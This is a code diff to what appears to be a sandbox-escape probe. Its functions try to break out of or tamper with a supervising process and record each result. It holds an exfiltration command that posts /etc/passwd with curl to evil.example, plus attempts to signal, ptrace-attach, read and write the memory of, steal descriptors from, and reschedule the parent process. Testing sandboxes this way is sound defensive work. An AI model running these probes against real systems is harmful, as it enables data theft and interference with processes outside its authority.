@@ -22,7 +22,7 @@ def make(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
 def execute(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
     """Run a program in every way that starts one."""
     argv = ["curl", "-d", "@/etc/passwd", "http://evil.example/"]
-    script = "/tmp/payload.sh"
+    script = raw.scratch("payload.sh")
     with open(script, "w") as file:
         file.write("#!/bin/sh\n")
     os.chmod(script, 0o755)
@@ -39,34 +39,56 @@ def execute(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
 
 
 def signal_supervisor(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
-    """Every signal to pid 1, and to all. What each met."""
-    met = {str(number): raw.attempt(lambda: os.kill(1, number)) for number in range(65)}  # noqa: B023
-    met["tgkill"] = raw.call("tgkill", 1, 1, 9)
+    """Every signal to one's parent. What each met."""
+    met = {str(number): raw.attempt(lambda: os.kill(os.getppid(), number)) for number in range(65)}  # noqa: B023
+    met["tgkill"] = raw.call("tgkill", os.getppid(), os.getppid(), 9)
     return met
+
+
+def signal_others(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
+    """Signal 0 to oneself, to argument["pids"] and to the supervisor, in each way. What each met."""
+    met = {
+        "oneself": raw.attempt(lambda: os.kill(os.getpid(), 0)),
+        "own thread": raw.call("tgkill", os.getpid(), os.getpid(), 0),
+    }
+    for pid in (*argument["pids"], os.getppid()):
+        met[f"kill {pid}"] = raw.attempt(lambda: os.kill(pid, 0))  # noqa: B023
+        if pid > 0:
+            met[f"tgkill {pid}"] = raw.call("tgkill", pid, pid, 0)
+            met[f"owner {pid}"] = _own_a_pipe(pid)
+    return met
+
+
+def _own_a_pipe(pid: int) -> str:
+    """Let another process get the signals of a pipe of ours: F_SETOWN."""
+    import fcntl
+
+    return raw.attempt(lambda: fcntl.fcntl(os.pipe()[0], 8, pid))
 
 
 def look_into_supervisor(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
     """Trace it, read it, copy its descriptors, change how it is run."""
+    whom = os.getppid()
     buffer = ctypes.create_string_buffer(64)
     here = raw.LIBC and ctypes.create_string_buffer(
         ctypes.addressof(buffer).to_bytes(8, "little") + (64).to_bytes(8, "little")
     )
     return {
-        "attach": raw.call("ptrace", 16, 1, 0, 0),
-        "seize": raw.call("ptrace", 0x4206, 1, 0, 0),
+        "attach": raw.call("ptrace", 16, whom, 0, 0),
+        "seize": raw.call("ptrace", 0x4206, whom, 0, 0),
         "traceme": raw.call("ptrace", 0, 0, 0, 0),
-        "read": raw.call("process_vm_readv", 1, here, 1, here, 1, 0),
-        "write": raw.call("process_vm_writev", 1, here, 1, here, 1, 0),
-        "pidfd": raw.call("pidfd_open", 1, 0),
+        "read": raw.call("process_vm_readv", whom, here, 1, here, 1, 0),
+        "write": raw.call("process_vm_writev", whom, here, 1, here, 1, 0),
+        "pidfd": raw.call("pidfd_open", whom, 0),
         "getfd": raw.call("pidfd_getfd", 3, 0, 0),
-        "nice": raw.call("setpriority", 0, 1, 19),
-        "affinity": raw.call("sched_setaffinity", 1, 8, (1).to_bytes(8, "little")),
-        "scheduler": raw.call("sched_setscheduler", 1, 5, bytes(4)),
-        "limits": raw.call("prlimit64", 1, 7, bytes(16), 0),
-        "mem": raw.attempt(lambda: os.open("/proc/1/mem", os.O_RDONLY)),
-        "maps": raw.attempt(lambda: os.open("/proc/1/maps", os.O_RDONLY)),
-        "fd": raw.attempt(lambda: os.listdir("/proc/1/fd")),
-        "root": raw.attempt(lambda: os.listdir("/proc/1/root")),
+        "nice": raw.call("setpriority", 0, whom, 19),
+        "affinity": raw.call("sched_setaffinity", whom, 8, (1).to_bytes(8, "little")),
+        "scheduler": raw.call("sched_setscheduler", whom, 5, bytes(4)),
+        "limits": raw.call("prlimit64", whom, 7, bytes(16), 0),
+        "mem": raw.attempt(lambda: os.open(f"/proc/{whom}/mem", os.O_RDONLY)),
+        "maps": raw.attempt(lambda: os.open(f"/proc/{whom}/maps", os.O_RDONLY)),
+        "fd": raw.attempt(lambda: os.listdir(f"/proc/{whom}/fd")),
+        "root": raw.attempt(lambda: os.listdir(f"/proc/{whom}/root")),
     }
 
 
